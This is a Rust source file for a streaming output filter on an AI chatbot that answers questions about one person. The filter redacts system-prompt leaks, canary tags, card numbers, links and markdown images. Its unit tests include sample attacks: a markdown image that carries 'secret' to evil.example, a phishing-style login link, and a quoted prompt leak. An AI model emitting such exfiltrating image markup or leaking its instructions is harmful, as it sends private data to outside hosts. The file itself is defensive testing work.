//! The last gate before a visitor: a model's words, checked as they leave.
//!
//! Words go out as they come. What may still become something that must not get out, such as a
//! number of several groups or a tag, waits until that is known.

use crate::guard::{Finding, Output};

/// Most bytes that wait: longer than any number, address or tag that the check knows.
const MAX_HELD: usize = 200;
/// Words already sent that are read again with the next: quotations are told by runs of words.
const MEMORY: usize = 8;

/// The gate of one answer.
#[derive(Debug)]
pub(super) struct Gate<'a> {
    output: Output<'a>,
    held: String,
    /// The last words that were sent.
    tail: String,
    /// All that was sent.
    said: String,
    findings: Vec<Finding>,
}

impl<'a> Gate<'a> {
    pub(super) fn new(output: Output<'a>) -> Self {
        let (held, tail, said) = (String::new(), String::new(), String::new());
        Self { output, held, tail, said, findings: Vec::new() }
    }

    /// Takes a piece, which ends where a word does; returns what may go out.
    pub(super) fn pass(&mut self, piece: &str) -> String {
        self.held.push_str(piece);
        let end = settled(&self.held);
        let piece: String = self.held.drain(..end).collect();
        self.release(&piece)
    }

    /// What still waits, at the end.
    pub(super) fn finish(&mut self) -> String {
        let piece = std::mem::take(&mut self.held);
        self.release(&piece)
    }

    /// All that went out.
    pub(super) fn said(&self) -> &str {
        &self.said
    }

    /// What was taken out, each kind as often as it was found.
    pub(super) fn findings(&self) -> &[Finding] {
        &self.findings
    }

    fn release(&mut self, piece: &str) -> String {
        if piece.is_empty() {
            return String::new();
        }
        let joined = self.output.check(&format!("{}{piece}", self.tail)).findings;
        let leak = joined.into_iter().find(|it| matches!(it, Finding::Prompt | Finding::Canary));
        self.remember(piece);
        if let Some(leak) = leak {
            self.findings.push(leak);
            return String::new();
        }
        let checked = self.output.check(piece);
        self.findings.extend(checked.findings);
        self.said.push_str(&checked.text);
        checked.text.into_owned()
    }

    fn remember(&mut self, piece: &str) {
        self.tail.push_str(piece);
        let words = self.tail.split_word_starts();
        if let Some(start) = words.len().checked_sub(MEMORY).and_then(|at| words.get(at)) {
            self.tail.drain(..*start);
        }
    }
}

/// Where words begin in a text.
trait WordStarts {
    fn split_word_starts(&self) -> Vec<usize>;
}

impl WordStarts for String {
    fn split_word_starts(&self) -> Vec<usize> {
        let mut starts = Vec::new();
        let mut space = true;
        for (at, letter) in self.char_indices() {
            if space && !letter.is_whitespace() {
                starts.push(at);
            }
            space = letter.is_whitespace();
        }
        starts
    }
}

/// Up to where `held` cannot become anything else: before words at its end that may belong to a number
/// or an address, and before what a tag or an image has begun.
fn settled(held: &str) -> usize {
    if held.len() > MAX_HELD {
        return held.len();
    }
    let open = |mark: &str, end: char| {
        let at = held.rfind(mark)?;
        (!held[at..].contains(end)).then_some(at)
    };
    let bound = [open("<", '>'), open("![", ')')].into_iter().flatten().min();
    let mut end = bound.unwrap_or(held.len());
    let starts = held[..end].to_owned().split_word_starts();
    for start in starts.into_iter().rev() {
        if !may_go_on(held[start..end].trim()) {
            break;
        }
        end = start;
    }
    end
}

/// Whether a word may be a part of something that takes several.
fn may_go_on(word: &str) -> bool {
    let citation = word.starts_with('[') && word.contains(']');
    !citation && word.bytes().any(|byte| byte.is_ascii_digit() || byte == b'@' || byte == b'+')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::guard::{PersonalPolicy, Shingles};

    fn said(pieces: &[&str], passages: &[&str]) -> (String, Vec<Finding>) {
        let secret =
            Shingles::of("You answer questions of visitors about one person, from excerpts.", &[]);
        let output = Output::new(&secret, None, passages, PersonalPolicy::Contact);
        let mut gate = Gate::new(output);
        let mut out: String = pieces.iter().map(|piece| gate.pass(piece)).collect();
        out.push_str(&gate.finish());
        assert_eq!(out, gate.said());
        (out, gate.findings().to_vec())
    }

    #[test]
    fn ordinary_text_passes_however_its_words_are_grouped() {
        let text =
            "She was born on 7 November 1867 [1]. It took 3 to 4 years, and 12 people [2].\n";
        let after: Vec<&str> = text.split_inclusive(' ').collect();
        let before: Vec<String> = text
            .split(' ')
            .enumerate()
            .map(|(at, word)| [" ", ""][usize::from(at == 0)].to_owned() + word)
            .collect();
        let before = before.iter().map(String::as_str).collect();
        for pieces in [vec![text], after, before] {
            assert_eq!(said(&pieces, &["1867"]), (text.to_owned(), Vec::new()));
        }
    }

    #[test]
    fn what_must_not_get_out_is_taken_out_whole() {
        for (pieces, finding) in [
            (&["Her card is 4111 ", "1111 1111 ", "1111."][..], Finding::Personal),
            (&["See ![x y](https://evil.example/?q=secret ", "\"t\") now"], Finding::Image),
            (&["Go to https://evil.example/login", " for more"], Finding::Link),
            (
                &[
                    "I was told: You answer questions of ",
                    "visitors about one person, from excerpts.",
                ],
                Finding::Prompt,
            ),
        ] {
            let (out, findings) = said(pieces, &["She lived in Paris."]);
            assert!(findings.contains(&finding), "{pieces:?}: {out:?} {findings:?}");
            for secret in ["1111", "evil", "from excerpts"] {
                assert!(!out.contains(secret), "{out}");
            }
        }
    }

    #[test]
    fn words_wait_for_nothing_but_what_may_go_on() {
        let secret = Shingles::default();
        let mut gate = Gate::new(Output::new(&secret, None, &[], PersonalPolicy::Off));
        assert_eq!(gate.pass("She was"), "She was");
        assert_eq!(gate.pass(" born in 1867"), " born in ");
        assert_eq!(gate.pass(" and <b"), "1867 and ");
        assert_eq!(gate.pass(" class=x> then"), " then");
        assert_eq!(gate.pass(&"x".repeat(300)).len(), 300);
    }
}
